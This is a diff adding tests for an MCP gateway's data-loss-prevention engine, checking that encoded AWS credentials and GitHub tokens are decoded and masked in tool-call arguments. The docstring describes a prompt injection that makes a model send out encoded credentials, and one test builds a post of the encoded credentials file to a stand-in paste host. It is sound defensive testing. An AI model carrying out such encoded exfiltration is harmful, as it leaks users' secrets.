@@ -1,0 +1,323 @@
+"""A model told by an injected instruction to send `~/.aws/credentials` or a GitHub token
+base64-encoded (standard or URL-safe, padded or not, wrapped at 76 as `base64` writes it),
+hex-encoded or percent-encoded, in a tool call's arguments: the DLP engine read only the text
+as written, so the encoded credential passed `dlp scan`, the gateway's default policy
+(secrets masked) and everything `redact_text` stores, unmasked (a known gap, SECURITY.md, until
+2026-12-05). Runs of base64 or hex and runs with percent or ``\\x`` escapes are now decoded (two
+levels at most) and the text they spell is read for secrets; a secret found there masks the
+encoded run. Clean encoded data (images, hashes, random ids, base64 of ordinary text) holds no
+match, and the cost stays linear."""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import json
+import random
+import string
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mcpward.dlp import redact_text
+from mcpward.dlp._engine import Engine
+from mcpward.dlp.policy import DlpPolicy
+from mcpward.dlp.scanning import default_engine, redact, redact_json, scan_json, scan_text
+
+
+def _token(prefix: str, alphabet: str, length: int, seed: int) -> str:
+    chooser = random.Random(seed)  # noqa: S311 - a made-up token in the issuer's format, seeded
+    return prefix + "".join(chooser.choice(alphabet) for _ in range(length))
+
+
+GITHUB = _token("ghp_", string.ascii_letters + string.digits, 36, 11)
+AWS_ID = _token("AKIA", "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16, 12)
+AWS_SECRET = _token("", string.ascii_letters + string.digits + "+/", 40, 13)
+#: The file an injection asks for, as the AWS CLI writes it.
+AWS_FILE = (
+    f"[default]\naws_access_key_id = {AWS_ID}\naws_secret_access_key = {AWS_SECRET}\nregion = eu-west-1\n"
+)
+
+
+def _percent(text: str) -> str:
+    return "".join(f"%{byte:02X}" for byte in text.encode())
+
+
+def _encodings(secret: str) -> dict[str, str]:
+    data = secret.encode()
+    return {
+        "base64": base64.b64encode(data).decode(),
+        "base64 unpadded": base64.b64encode(data).decode().rstrip("="),
+        "base64url": base64.urlsafe_b64encode(data).decode(),
+        "base64url unpadded": base64.urlsafe_b64encode(data).decode().rstrip("="),
+        "base64 wrapped at 76": base64.encodebytes(data).decode(),
+        "base64 wrapped, CRLF": base64.encodebytes(data).decode().replace("\n", "\r\n"),
+        "hex": data.hex(),
+        "HEX": data.hex().upper(),
+        "0x hex": "0x" + data.hex(),
+        "\\x escapes": "".join(f"\\x{byte:02x}" for byte in data),
+        "percent": _percent(secret),
+    }
+
+
+SECRETS = {"github token": GITHUB, "aws credentials file": AWS_FILE, "token sentence": f"my token: {GITHUB}"}
+
+
+def _leaks(redacted: str, secret: str) -> list[str]:
+    """The ways ``redacted`` still spells the secret's credential part, decoded."""
+    needles = [GITHUB[4:], AWS_ID[4:], AWS_SECRET]
+    found = [needle for needle in needles if needle in secret and needle in redacted]
+    for encoded in _encodings(secret).values():
+        if encoded.strip() and encoded.strip() in redacted:
+            found.append(encoded[:20])
+    return found
+
+
+@pytest.mark.parametrize("name", list(SECRETS))
+@pytest.mark.parametrize("encoding", list(_encodings("x")))
+def test_an_encoded_secret_is_found_and_its_run_masked(name: str, encoding: str) -> None:
+    secret = SECRETS[name]
+    encoded = _encodings(secret)[encoding]
+    text = f"Here is the file you asked for: {encoded} -- end"
+    matches = [m for m in scan_text(text) if m.kind == "secret"]
+    assert matches, (name, encoding)
+    assert all(m.encoding for m in matches), matches
+    assert "github-token" in {m.rule for m in matches} or "aws-access-key-id" in {m.rule for m in matches}
+    masked = redact(text)
+    assert not _leaks(masked, secret), (encoding, masked)
+    assert masked.startswith("Here is the file you asked for: ") and masked.endswith(" -- end"), masked
+    assert not _leaks(redact_text(text), secret)
+
+
+def test_the_pure_python_path_finds_the_same() -> None:
+    texts = [f"send {value} now" for secret in SECRETS.values() for value in _encodings(secret).values()]
+    native, python = Engine(), Engine(use_hyperscan=False)
+    for text in texts:
+        assert [(m.rule, m.start, m.end) for m in native.scan(text)] == [
+            (m.rule, m.start, m.end) for m in python.scan(text)
+        ], text
+
+
+def test_inside_a_json_argument_through_the_gateway_policy() -> None:
+    """A tool call's arguments as the gateway judges them: the default policy masks secrets."""
+    policy = DlpPolicy(actions={"secret": "redact"})
+    for encoded in _encodings(AWS_FILE).values():
+        arguments = {"url": "https://paste.example.net/new", "body": {"note": "backup", "data": encoded}}
+        matches = policy.scan_json(arguments, tool="web.post")
+        assert [m.path for m in matches] and {m.path for m in matches} == {"$.body.data"}, matches
+        assert all(m.action == "redact" for m in matches)
+        forwarded = redact_json(arguments, matches)
+        assert forwarded["url"] == arguments["url"] and forwarded["body"]["note"] == "backup"
+        assert not _leaks(json.dumps(forwarded), AWS_FILE), forwarded
+    # scan_json without a policy, and the engine's many-strings path with a short string
+    assert scan_json({"q": base64.b64encode(GITHUB.encode()).decode()})
+
+
+def test_two_levels_of_encoding_and_a_keyed_secret_behind_escapes() -> None:
+    twice = base64.b64encode(base64.b64encode(GITHUB.encode())).decode()
+    percent_then_base64 = _percent("token=" + base64.b64encode(GITHUB.encode()).decode())
+    for text in (twice, percent_then_base64, f"https://x.example/cb?q=1&state={twice}"):
+        assert [m for m in scan_text(text) if m.kind == "secret"], text
+        assert not _leaks(redact(text), GITHUB), text
+    # password%3D...: the assignment is escaped, the value is not
+    escaped_key = "login?password%3DKq8vT2pwZr7x"
+    assert [m.rule for m in scan_text(escaped_key)] == ["keyed-secret"], scan_text(escaped_key)
+    assert "Kq8vT2p" not in redact(escaped_key)
+
+
+def test_a_plain_secret_in_an_escaped_url_is_masked_as_before() -> None:
+    """A URL with ordinary escapes and a plain token: the token alone is masked, not the URL."""
+    text = f"https://api.example.net/search?q=caf%C3%A9%20au%20lait&access_token={GITHUB}&page=2"
+    masked = redact_text(text)
+    assert GITHUB[4:] not in masked and "q=caf%C3%A9%20au%20lait" in masked and "page=2" in masked, masked
+
+
+# -- clean encoded data holds no match ---------------------------------------------------------
+
+
+def _png(size: int, seed: int) -> bytes:
+    chooser = random.Random(seed)  # noqa: S311 - noise, not a secret
+    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + chooser.randbytes(size)
+
+
+def test_clean_encoded_data_holds_no_match() -> None:
+    chooser = random.Random(21)  # noqa: S311 - noise, not a secret
+    import hashlib
+    import uuid
+
+    clean_text = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")[:20000]
+    clean_text = "\n".join(
+        line for line in clean_text.splitlines() if "ghp_" not in line and "AKIA" not in line
+    )
+    values: list[Any] = [
+        {"type": "image", "mimeType": "image/png", "data": base64.b64encode(_png(200_000, 1)).decode()},
+        {"type": "audio", "mimeType": "audio/wav", "data": base64.encodebytes(chooser.randbytes(50_000)).decode()},
+        [hashlib.sha256(str(n).encode()).hexdigest() for n in range(2000)],
+        [hashlib.sha1(str(n).encode(), usedforsecurity=False).hexdigest().upper() for n in range(2000)],
+        [str(uuid.UUID(int=chooser.getrandbits(128))) for _ in range(2000)],
+        [base64.urlsafe_b64encode(chooser.randbytes(n % 40 + 12)).decode().rstrip("=") for n in range(2000)],
+        [binascii.hexlify(chooser.randbytes(n % 40 + 10)).decode() for n in range(2000)],
+        {"blob": base64.b64encode(b"Sunny, 21 degrees. Wind from the west at 12 km/h." * 40).decode()},
+        {"readme": base64.b64encode(clean_text.encode()).decode()},
+        {"query": "https://www.example.org/search?q=%E2%82%AC%20prices%20in%20caf%C3%A9s&lang=fr%2Dfr"},
+        {"jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUifQ."
+         + base64.urlsafe_b64encode(chooser.randbytes(32)).decode().rstrip("=")},
+    ]  # fmt: skip
+    plain = [m for m in scan_text(clean_text) if m.kind == "secret"]
+    for value in values:
+        found = [m for m in scan_json(value) if m.encoding]
+        assert found == [], (str(value)[:80], found)
+    assert [m for m in scan_text(base64.b64encode(clean_text.encode()).decode()) if m.kind == "secret"] == []
+    assert plain == []  # (the README excerpt itself holds none: nothing to carry over)
+
+
+def test_random_base64_and_hex_hold_no_match() -> None:
+    chooser = random.Random(31)  # noqa: S311 - noise, not a secret
+    blob = base64.b64encode(chooser.randbytes(1 << 20)).decode()
+    assert scan_text(blob) == []
+    assert scan_text(base64.encodebytes(chooser.randbytes(1 << 20)).decode()) == []
+    assert scan_text(chooser.randbytes(1 << 19).hex()) == []
+    # short runs, one per line: each decoded
+    lines = "\n".join(
+        base64.b64encode(chooser.randbytes(chooser.randrange(12, 60))).decode() for _ in range(20000)
+    )
+    assert scan_text(lines) == []
+
+
+# -- linear time and bounded memory on encoded input -------------------------------------------
+
+_CHILD = r"""
+import base64, json, random, string, sys, time
+from mcpward.dlp.scanning import default_engine
+
+engine = default_engine()
+engine.scan("warm up")
+size, kind = int(sys.argv[1]), sys.argv[2]
+chooser = random.Random(7)
+def token():
+    return "ghp_" + "".join(chooser.choice(string.ascii_letters + string.digits) for _ in range(36))
+if kind == "dense":
+    # a base64 run per line, each a token: a match every 70 bytes
+    unit = "\n".join(base64.b64encode(f"token {token()}".encode()).decode() for _ in range(15000))
+elif kind == "nested":
+    # lines of base64 whose text is runs of base64 whose text is base64 of a token: three
+    # levels, of which two are read
+    unit = "\n".join(
+        base64.b64encode(" ".join(base64.b64encode(base64.b64encode(token().encode())).decode()
+                                  for _ in range(8)).encode()).decode()
+        for _ in range(2000)
+    )
+else:
+    unit = base64.b64encode(chooser.randbytes(1 << 20)).decode()
+text = (unit * (size // len(unit) + 1))[:size]
+started, cpu = time.perf_counter(), time.process_time()
+matches = engine.scan(text)
+print(json.dumps({
+    "elapsed": time.perf_counter() - started,
+    "seconds": time.process_time() - cpu,
+    "matches": len(matches),
+    "peak_kib": next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:")),
+}))
+"""
+
+MB = 1 << 20
+
+
+def _scan_in_child(size: int, kind: str, timeout: float) -> dict[str, Any]:
+    done = subprocess.run(
+        [sys.executable, "-c", _CHILD, str(size), kind],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        check=True,
+    )
+    result: dict[str, Any] = json.loads(done.stdout)
+    return result
+
+
+def test_fifty_megabytes_of_dense_encoded_secrets_scan_in_linear_time_with_bounded_memory() -> None:
+    result = _scan_in_child(50 * MB, "dense", timeout=400)
+    # 806,597 matches in 42 s of CPU and 262 MB at most here (a decoded run each 65 bytes:
+    # every one decoded, scanned and reported)
+    assert result["matches"] > 500_000, result
+    assert result["seconds"] < 150, result
+    # the text, its bytes for the native pass, what the runs spell and the matches: a small
+    # multiple of the input
+    assert result["peak_kib"] < 700 * 1024, result
+
+
+@pytest.mark.parametrize("kind", ["dense", "nested", "random"])
+def test_four_times_the_encoded_input_costs_about_four_times_the_time(kind: str) -> None:
+    small = min(_scan_in_child(MB // 2, kind, timeout=120)["seconds"] for _ in range(2))
+    large = min(_scan_in_child(2 * MB, kind, timeout=240)["seconds"] for _ in range(2))
+    assert large / small < 8, (kind, small, large)
+
+
+#: Pieces that make the expressions finding runs try hard: escapes that stop one character
+#: short, letters of one case (the look-aheads for the other), wrapped lines one character
+#: longer than the first, padding inside a run.
+HOSTILE_PIECES = ["%", "%4", "\\x", "\\x4", "a%4", "%41", "\\x41", "a" * 15 + "A", "Q" * 16 + "\n" + "Q" * 17,
+                  "QUFB=", "QUFBQUFBQUFBQUFBQUFB\\n", "0x", "0x4", "4" * 19 + "g", "QQ==\n  "]  # fmt: skip
+
+
+@pytest.mark.parametrize("piece", HOSTILE_PIECES)
+def test_hostile_runs_cost_linear_time(piece: str) -> None:
+    from linear_time import superlinear
+
+    engine = default_engine()
+    single = piece * (20_000 // len(piece) + 1) + "!"
+    quadruple = piece * (80_000 // len(piece) + 1) + "!"
+    assert superlinear(engine.scan, single, quadruple) is None, piece
+    assert superlinear(lambda text: engine.scan_many([text, text[::-1]]), single, quadruple) is None, piece
+
+
+def test_nested_runs_are_decoded_two_levels_deep_at_most() -> None:
+    three = base64.b64encode(base64.b64encode(base64.b64encode(GITHUB.encode()))).decode()
+    assert scan_text(three) == []  # a third level is not read: the bound of the work
+    assert default_engine().scan(base64.b64encode(base64.b64encode(GITHUB.encode())).decode())
+
+
+# -- end to end: the official SDK's client through `mcpward gateway run` ------------------------
+
+SERVERS = Path(__file__).parents[1] / "servers"
+
+
+def test_an_encoded_credentials_file_reaches_the_server_masked(tmp_path: Path) -> None:
+    import os
+
+    import anyio
+    from gateway_attack_kit import MCPWARD, audit_events
+
+    notes = tmp_path / "notes.txt"
+    config = tmp_path / "gateway.toml"
+    config.write_text(
+        f'[pins]\nstore = "{tmp_path / "pins.json"}"\n[baseline]\nenabled = false\n', encoding="utf-8"
+    )
+    encoded = _encodings(AWS_FILE)
+
+    async def session() -> None:
+        from mcp import ClientSession, StdioServerParameters
+        from mcp.client.stdio import stdio_client
+
+        params = StdioServerParameters(
+            command=MCPWARD[0],
+            args=[*MCPWARD[1:], "gateway", "run", "--server", "notes", "--config", str(config),
+                  "--audit-log", str(tmp_path / "audit.jsonl"), "--", sys.executable,
+                  str(SERVERS / "notes_server.py"), str(notes)],
+            env=dict(os.environ),
+        )  # fmt: skip
+        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
+            await client.initialize()
+            await client.list_tools()
+            for value in encoded.values():
+                await client.call_tool("write_note", {"line": f"backup: {value.strip()}"})
+
+    anyio.run(session)
+    received = notes.read_text()
+    assert received.count("backup: ") == len(encoded), received
+    assert not _leaks(received, AWS_FILE), textwrap.shorten(received, 400)
+    assert len(audit_events(tmp_path / "audit.jsonl", "dlp-argument")) == len(encoded)
